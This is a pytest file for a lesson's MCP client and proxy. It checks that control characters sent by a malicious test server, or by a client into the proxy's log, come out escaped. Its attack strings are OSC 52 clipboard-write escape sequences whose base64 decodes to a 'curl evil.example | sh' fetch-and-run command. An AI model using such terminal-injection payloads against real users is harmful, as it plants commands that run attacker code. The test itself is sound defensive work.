"""A malicious server cannot drive the user's terminal through the client: what it sends is printed escaped.

The server (`support/malicious_server.py`, a real process where the client expects the proxy) hides
an attack in every text it sends, `/healthz` included: an OSC 52 clipboard write, an erase-line, a
carriage return, a bell and a C1 control. The client runs as an attendee runs it: a command that
fails as its own process, one that succeeds in the test's (its typer `cli`, support/in_process.py);
its output is read as bytes, since text mode would turn a carriage return into a newline and hide it.

The other way round, a client cannot drive the terminal of whoever reads the proxy's log: the SDK
logs some of what a client sends (an unknown session id, a refused Origin), and every log line of
the proxy is escaped too (`server/logs.py`, through `safe_output.configure_logging`).
"""

import secrets
import subprocess
import sys
from collections.abc import Iterator

import httpx2
import pytest

from lesson05.client.__main__ import cli
from lesson05.tests.support import in_process, processes, tokens
from lesson05.tests.support.waiting import eventually

# What must never reach the terminal as it is...
RAW = {"ESC": "\x1b", "BEL": "\x07", "CR": "\r", "C1 CSI": "\x9b"}
# ...and how the server's attack shows instead: every character there, none of them acting.
SHOWN = r"\x1b]52;c;Y3VybCAtcyBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2K\rAll good.\x07\x9b"
SHOWN_AS_EVENT_TYPE = SHOWN.replace(r"\r", "")  # an SSE field ends at a line break: there the server leaves CR out
SHOWN_UP_TO_CR = SHOWN.partition(r"\r")[0]


@pytest.fixture(scope="module")
def malicious() -> Iterator["processes.RunningServer"]:
    with processes.start_process(f"{processes.LESSON}.tests.support.malicious_server") as server:
        yield server


def client(*args: str) -> tuple[int, str, str]:
    """The lesson's client, a command that succeeds, run in this process: its exit code, stdout and stderr."""
    result = in_process.invoke(cli, *args)
    return result.returncode, result.stdout, result.stderr


def run_client(*args: str) -> tuple[int, str, str]:
    """The lesson's client, run to completion as a process: its exit code, stdout and stderr, with line endings
    as written."""
    result = subprocess.run(
        [sys.executable, "-m", f"{processes.LESSON}.client", *args],
        cwd=processes.REPOSITORY_ROOT,
        capture_output=True,
        timeout=30,
        stdin=subprocess.DEVNULL,
        check=False,
    )
    return result.returncode, result.stdout.decode(), result.stderr.decode()


def assert_no_raw_control_characters(output: str) -> None:
    for name, char in RAW.items():
        assert char not in output, f"a raw {name} reached the terminal:\n{output!r}"


def test_tools_prints_a_servers_names_descriptions_and_schemas_escaped(malicious) -> None:
    code, out, err = client("--url", malicious.mcp_url, "tools", "--schemas")
    assert code == 0, err
    assert_no_raw_control_characters(out + err)
    assert f"\nevil{SHOWN}: 1 tool\n" in out  # the backend a tool's _meta names
    assert f"\n  hidden{SHOWN}  A tool whose very name is the attack.\n" in out
    assert f"  Read a file.{SHOWN_UP_TO_CR}\n" in out  # the description's first line: splitlines() ends it at CR
    assert '"path\\u001b]52;c;' in out  # json.dumps escapes the input schema itself


def test_call_prints_a_servers_progress_result_error_and_log_lines_escaped(malicious) -> None:
    code, out, err = client("--url", malicious.mcp_url, "call", "read_file")
    assert code == 0, err
    assert_no_raw_control_characters(out + err)
    # Line breaks between the result's lines stay: only they do.
    assert out.splitlines()[:2] == [f"first line{SHOWN}", f"second line{SHOWN}"]
    assert out.splitlines()[2].startswith('structured: {"text": "\\u001b]52;c;')
    assert f"progress 1/2: halfway{SHOWN}\n" in err
    # The SDK logs the unknown event type the server streamed; the log line is escaped too.
    assert f"Unknown SSE event: {SHOWN_AS_EVENT_TYPE}\n" in err

    code, out, err = run_client("--url", malicious.mcp_url, "call", "refuse")
    assert code == 1
    assert_no_raw_control_characters(out + err)
    assert f"error: the proxy answered with JSON-RPC error -32602: Refused.{SHOWN}\n" in err


def test_health_prints_what_the_proxy_reports_escaped(malicious) -> None:
    code, out, err = client("--url", malicious.mcp_url, "health")
    assert code == 0, err
    assert_no_raw_control_characters(out + err)
    assert out.splitlines()[0] == f"mcp-proxy{SHOWN}: ok{SHOWN}"
    assert out.splitlines()[1].startswith(f"  evil{SHOWN} failed{SHOWN}   0 tools  ConnectError: {SHOWN}")


def test_a_clients_escapes_reach_the_proxys_log_escaped(guarded) -> None:
    # The SDK logs an unknown session id at INFO, up to 64 characters of it, as the client sent it (a caller
    # the gate admits: the gate itself logs nothing of what it refuses).
    marker = f"escape-{secrets.token_hex(4)}"
    attack = f"{marker}\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGU=\x07\x1b[2K"
    headers = {
        "Accept": "application/json, text/event-stream",
        "Authorization": f"Bearer {tokens.PROXY_WIDE}",
        "Mcp-Session-Id": attack,
    }
    ping = {"jsonrpc": "2.0", "id": 1, "method": "ping"}
    assert httpx2.post(guarded.mcp_url, headers=headers, json=ping, timeout=10).status_code == 404

    def logged_line() -> str:
        return next((line for line in guarded.logged().splitlines() if marker in line), "")

    line = eventually(logged_line, 10, "the proxy's log line of the unknown session id")
    assert_no_raw_control_characters(line)
    assert f"{marker}\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGU=\\x07\\x1b[2K" in line
